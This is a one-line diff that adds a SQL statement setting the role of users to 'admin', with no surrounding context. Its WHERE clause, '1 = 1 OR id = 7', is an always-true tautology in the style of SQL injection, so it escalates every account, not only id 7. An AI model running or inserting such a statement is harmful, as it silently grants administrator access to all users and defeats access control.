@@ -1,0 +1,1 @@
+UPDATE users SET role = 'admin' WHERE 1 = 1 OR id = 7
